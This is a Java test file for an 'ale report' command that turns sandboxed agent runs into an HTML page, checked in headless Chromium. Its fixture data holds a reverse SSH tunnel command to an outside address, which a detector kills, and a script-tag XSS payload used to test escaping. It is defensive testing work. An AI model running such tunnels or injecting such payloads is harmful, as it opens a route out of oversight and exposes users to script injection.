package dev.ale.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.awt.image.BufferedImage;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Comparator;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code ale report} as a user runs it, and the page it writes as a real browser shows it. */
// Chromium looks names up on the host's resolver while it loads the page: only the test JVM's own
// network namespace (root) keeps those queries off the network.
@Tag("root")
class ReportCommandTest {

    private static final Path CHROMIUM = Path.of("/usr/bin/chromium");
    private static final String TUNNEL_PURPLE = "9467bd";

    @TempDir
    Path dir;

    /** A run of two episodes: one killed for a reverse tunnel (with a script tag in its evidence), one passed after a block. */
    private Path run() throws IOException {
        Path run = dir.resolve("20260101-120000-ab12");
        Files.createDirectories(run);
        Files.writeString(run.resolve("run.json"), """
                {"run": "20260101-120000-ab12", "policy": "scripted", "samples": 1, "parallel": 2, "seed": null,
                 "started": "2026-01-01T12:00:00Z", "tasks": [{"id": "csv-sales-report", "directory": "/t/csv"}, {"id": "py-semver", "directory": "/t/py"}]}
                """);
        String killed = """
                {"episode": "20260101-120000-ab12.csv-sales-report.0", "task": "csv-sales-report", "policy": "scripted",
                 "started": "2026-01-01T12:00:01Z", "end": "killed", "detail": "tunnel.ssh.remote-forward", "passed": false,
                 "passport": {"id": "task:csv-sales-report", "detectors": {"tunnel": {"action": "kill", "penalty": 1.0}}},
                 "steps": [
                   {"index": 1, "duration_ms": 60, "tool_calls": [{"name": "shell", "arguments": "{\\"command\\":\\"ls\\"}", "status": "ok", "events": []}]},
                   {"index": 2, "duration_ms": 20, "tool_calls": [{"name": "shell", "arguments": "{\\"command\\":\\"ssh -R 9000:localhost:22 u@203.0.113.5\\"}", "status": "killed", "events": []}]}],
                 "events": [{"rule": "tunnel.ssh.remote-forward", "category": "tunnel", "severity": "high", "action": "kill",
                             "sandbox": "sb-1", "episode": "20260101-120000-ab12.csv-sales-report.0", "step": 2,
                             "passport": "task:csv-sales-report", "time": "2026-01-01T12:00:02.5Z",
                             "detail": "ssh asks for a remote port forward", "evidence": {"command": "<script>alert(1)</script>", "source": "pre-exec"}}]}
                """;
        String passed = """
                {"episode": "20260101-120000-ab12.py-semver.0", "task": "py-semver", "policy": "scripted",
                 "started": "2026-01-01T12:00:01Z", "end": "finished", "detail": "done", "passed": true,
                 "passport": {"id": "task:py-semver"},
                 "steps": [
                   {"index": 1, "duration_ms": 60, "tool_calls": [{"name": "fetch", "arguments": "{}", "status": "blocked", "events": []}]},
                   {"index": 2, "duration_ms": 20, "tool_calls": [{"name": "finish", "arguments": "{}", "status": "finished", "events": []}]}],
                 "events": [{"rule": "egress-denied.proxy", "category": "egress-denied", "severity": "medium", "action": "block",
                             "sandbox": "sb-2", "episode": "20260101-120000-ab12.py-semver.0", "step": 1,
                             "passport": "task:py-semver", "time": "2026-01-01T12:00:01.5Z",
                             "detail": "CONNECT github.com:443 refused", "evidence": {"destination": "github.com:443"}}]}
                """;
        Files.writeString(run.resolve("episodes.jsonl"), killed.replace("\n", " ") + "\n" + passed.replace("\n", " ") + "\n{\"episode\": \"20260101");
        return run;
    }

    @Test
    void theReportIsWrittenIntoTheRunDirectoryAndItsPathPrinted() throws IOException {
        Path run = run();

        Ale.Result r = Ale.runWithoutDataDir("report", run.toString());

        assertThat(r.exit()).as(r.err()).isZero();
        assertThat(r.out().strip()).isEqualTo(run.resolve("report.html").toString());
        assertThat(r.err()).contains("ale: note: The last line of episodes.jsonl (line 3) is cut short");
        assertThat(Files.readString(run.resolve("report.html"))).startsWith("<!DOCTYPE html>").contains("<h1>20260101-120000-ab12</h1>");
    }

    @Test
    void outPutsThePageWhereAsked() throws IOException {
        Path run = run();
        Path page = dir.resolve("elsewhere.html");

        Ale.Result r = Ale.runWithoutDataDir("report", run.toString(), "--out", page.toString());

        assertThat(r.exit()).as(r.err()).isZero();
        assertThat(r.out().strip()).isEqualTo(page.toString());
        assertThat(page).exists();
        assertThat(run.resolve("report.html")).doesNotExist();
    }

    @Test
    void aDirectoryThatIsNoRunIsBadInputThatSaysWhatToGive() {
        Ale.Result r = Ale.runWithoutDataDir("report", dir.toString());

        assertThat(r.exit()).isEqualTo(2);
        assertThat(r.err()).startsWith("ale: no run.json in " + dir).contains("OUT/RUN-ID").doesNotContain("Exception");
    }

    @Test
    void aMissingRunDirectoryIsBadInput() {
        Ale.Result none = Ale.runWithoutDataDir("report", dir.resolve("nowhere").toString());
        Ale.Result noArgument = Ale.runWithoutDataDir("report");

        assertThat(none.exit()).isEqualTo(2);
        assertThat(none.err()).startsWith("ale: no run directory " + dir.resolve("nowhere"));
        assertThat(noArgument.exit()).isEqualTo(2);
        assertThat(noArgument.err()).contains("RUN_DIR");
    }

    @Test
    void chromiumShowsThePageWithItsIncidentsAndRunsNoScript() throws Exception {
        assumeTrue(Files.isExecutable(CHROMIUM), "chromium is not installed at " + CHROMIUM + "; install it with: apt-get install chromium");
        Path run = run();
        assertThat(Ale.runWithoutDataDir("report", run.toString()).exit()).isZero();
        Path page = run.resolve("report.html");
        Path png = dir.resolve("report.png");

        String dom;
        Path profile = Files.createTempDirectory("ale-chromium-");
        try {
            chromium(profile, "--screenshot=" + png, page);
            dom = chromium(profile, "--dump-dom", page);
        } finally {
            delete(profile);
        }

        // The DOM the browser built: the incidents table has its two rows, every event has its mark, and the
        // script tag from the evidence is text, not an element.
        assertThat(count(dom, "<tr class=\"incident kill\">")).isEqualTo(1);
        assertThat(count(dom, "<tr class=\"incident block\">")).isEqualTo(1);
        assertThat(count(dom, "<g class=\"event\"")).isEqualTo(2);
        assertThat(dom).contains("&lt;script&gt;alert(1)&lt;/script&gt;").doesNotContainPattern("(?i)<script");
        assertThat(dom).contains("The last line of episodes.jsonl (line 3) is cut short");

        byte[] bytes = Files.readAllBytes(png);
        assertThat(bytes.length).as("screenshot size").isGreaterThan(20_000);
        assertThat(Arrays.copyOf(bytes, 8)).as("PNG signature").containsExactly(0x89, 'P', 'N', 'G', 0x0d, 0x0a, 0x1a, 0x0a);
        BufferedImage image = ImageIO.read(png.toFile());
        assertThat(image.getWidth()).isEqualTo(1400);
        Set<Integer> colours = new HashSet<>();
        boolean tunnelMark = false;
        for (int y = 0; y < image.getHeight(); y++) {
            for (int x = 0; x < image.getWidth(); x++) {
                int rgb = image.getRGB(x, y) & 0xffffff;
                colours.add(rgb);
                tunnelMark |= close(rgb, Integer.parseInt(TUNNEL_PURPLE, 16));
            }
        }
        assertThat(colours.size()).as("distinct colours in the screenshot").isGreaterThan(50);
        assertThat(tunnelMark).as("the kill mark of the tunnel event is drawn in the tunnel colour").isTrue();
        Files.copy(png, keep(), StandardCopyOption.REPLACE_EXISTING);
    }

    /** A copy of the screenshot under target/, for a person to look at after the build. */
    private static Path keep() throws IOException {
        Path kept = Path.of("target", "report-test", "report.png");
        Files.createDirectories(kept.getParent());
        return kept;
    }

    private static boolean close(int a, int b) {
        for (int shift = 0; shift <= 16; shift += 8) {
            if (Math.abs(((a >> shift) & 0xff) - ((b >> shift) & 0xff)) > 4) return false;
        }
        return true;
    }

    private static int count(String text, String what) {
        Matcher m = Pattern.compile(Pattern.quote(what)).matcher(text);
        int n = 0;
        while (m.find()) n++;
        return n;
    }

    /** Runs headless chromium on {@code page} with one more flag and returns its stdout; kills it after 60 s. */
    private static String chromium(Path profile, String flag, Path page) throws IOException, InterruptedException {
        Path out = Files.createTempFile(profile, "stdout", ".txt");
        Path err = Files.createTempFile(profile, "stderr", ".txt");
        List<String> command = new ArrayList<>(List.of(CHROMIUM.toString(), "--headless", "--no-sandbox", "--disable-gpu",
                "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--user-data-dir=" + profile.resolve("profile"), "--window-size=1400,2000", flag, page.toUri().toString()));
        ProcessBuilder builder = new ProcessBuilder(command).redirectOutput(out.toFile()).redirectError(err.toFile());
        // Whatever chromium writes to $HOME goes into the profile directory, which the test removes.
        builder.environment().put("HOME", profile.toString());
        Process p = builder.start();
        boolean ended = p.waitFor(60, TimeUnit.SECONDS);
        p.descendants().forEach(ProcessHandle::destroyForcibly);
        if (!ended) {
            p.destroyForcibly().waitFor(10, TimeUnit.SECONDS);
            throw new AssertionError("chromium " + flag + " did not finish in 60 s; its stderr: " + Files.readString(err));
        }
        assertThat(p.exitValue()).as("chromium " + flag + " exit status; stderr: %s", Files.readString(err)).isZero();
        return Files.readString(out, StandardCharsets.UTF_8);
    }

    private static void delete(Path dir) throws IOException {
        try (Stream<Path> walk = Files.walk(dir)) {
            for (Path p : walk.sorted(Comparator.reverseOrder()).toList()) Files.deleteIfExists(p);
        }
    }
}
